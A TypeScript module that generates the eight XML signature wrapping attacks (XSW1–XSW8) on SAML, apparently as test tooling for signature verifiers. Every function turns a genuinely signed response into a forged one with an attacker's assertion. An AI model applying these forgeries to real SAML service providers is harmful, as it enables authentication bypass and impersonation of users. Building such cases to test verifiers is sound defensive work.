import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * The eight XML signature wrapping attacks (XSW1–XSW8, after Somorovsky et al., "On Breaking SAML",
 * 2012), built from a genuinely signed response: each keeps the identity provider's valid signature
 * somewhere in the document and puts an attacker's assertion (NameID mallory@attacker.example)
 * where a careless reader would look.
 */
const P = 'urn:oasis:names:tc:SAML:2.0:protocol';
const A = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

type Doc = ReturnType<DOMParser['parseFromString']>;
const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (doc: Doc) => new XMLSerializer().serializeToString(doc);
const first = (parent: Doc | Element, ns: string, name: string) => parent.getElementsByTagNameNS(ns, name)[0] as Element;
const directChild = (parent: Element, ns: string, name: string) =>
  Array.from(parent.childNodes).find((n) => n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name) as
    | Element
    | undefined;

/** Turns an assertion into the attacker's: another subject, and (optionally) another ID. */
function evil(assertion: Element, id?: string): Element {
  const copy = assertion.cloneNode(true) as Element;
  if (id) copy.setAttribute('ID', id);
  first(copy, A, 'NameID').textContent = 'mallory@attacker.example';
  return copy;
}
function withoutSignature(element: Element): Element {
  const signature = directChild(element, DS, 'Signature');
  if (signature) element.removeChild(signature);
  return element;
}
function objectIn(doc: Doc, signature: Element): Element {
  const object = doc.createElementNS(DS, 'ds:Object');
  signature.appendChild(object);
  return object;
}

/** XSW1–2 wrap a response signed as a whole; XSW3–8 an assertion signed on its own. */
export const XSW: Record<string, (signedXml: string) => string> = {
  // The original response moves inside the signature; an unsigned evil response, same signature, is the root.
  XSW1(xml) {
    const doc = parse(xml);
    const response = doc.documentElement!;
    const original = response.cloneNode(true) as Element;
    const signature = directChild(response, DS, 'Signature')!;
    response.setAttribute('ID', '_evil_response');
    const assertion = first(response, A, 'Assertion');
    response.replaceChild(evil(assertion), assertion);
    objectIn(doc, signature).appendChild(withoutSignature(original));
    return serialize(doc);
  },
  // The same, with the original response a detached sibling before the signature.
  XSW2(xml) {
    const doc = parse(xml);
    const response = doc.documentElement!;
    const original = response.cloneNode(true) as Element;
    const signature = directChild(response, DS, 'Signature')!;
    response.setAttribute('ID', '_evil_response');
    const assertion = first(response, A, 'Assertion');
    response.replaceChild(evil(assertion), assertion);
    response.insertBefore(withoutSignature(original), signature);
    return serialize(doc);
  },
  // An evil assertion with a new ID prepended before the signed one.
  XSW3(xml) {
    const doc = parse(xml);
    const assertion = first(doc, A, 'Assertion');
    doc.documentElement!.insertBefore(withoutSignature(evil(assertion, '_evil_assertion')), assertion);
    return serialize(doc);
  },
  // The signed assertion wrapped inside an evil one.
  XSW4(xml) {
    const doc = parse(xml);
    const assertion = first(doc, A, 'Assertion');
    const wrapper = withoutSignature(evil(assertion, '_evil_assertion'));
    doc.documentElement!.replaceChild(wrapper, assertion);
    wrapper.appendChild(assertion);
    return serialize(doc);
  },
  // An evil copy keeps the signature (and the ID); the original, unsigned, is appended at the end.
  XSW5(xml) {
    const doc = parse(xml);
    const assertion = first(doc, A, 'Assertion');
    const copy = evil(assertion);
    doc.documentElement!.replaceChild(copy, assertion);
    doc.documentElement!.appendChild(withoutSignature(assertion));
    return serialize(doc);
  },
  // The evil copy keeps the signature; the original sits directly inside that signature element.
  XSW6(xml) {
    const doc = parse(xml);
    const assertion = first(doc, A, 'Assertion');
    const copy = evil(assertion);
    doc.documentElement!.replaceChild(copy, assertion);
    directChild(copy, DS, 'Signature')!.appendChild(withoutSignature(assertion));
    return serialize(doc);
  },
  // The signed assertion hidden in an Extensions element; an unsigned evil assertion in its place.
  XSW7(xml) {
    const doc = parse(xml);
    const assertion = first(doc, A, 'Assertion');
    const extensions = doc.createElementNS(P, 'samlp:Extensions');
    doc.documentElement!.replaceChild(extensions, assertion);
    extensions.appendChild(assertion);
    doc.documentElement!.appendChild(withoutSignature(evil(assertion)));
    return serialize(doc);
  },
  // The evil copy carries the signature, with the original (unsigned) inside its Object.
  XSW8(xml) {
    const doc = parse(xml);
    const assertion = first(doc, A, 'Assertion');
    const copy = evil(assertion);
    doc.documentElement!.replaceChild(copy, assertion);
    const signature = directChild(copy, DS, 'Signature')!;
    objectIn(doc, signature).appendChild(withoutSignature(assertion));
    return serialize(doc);
  },
};
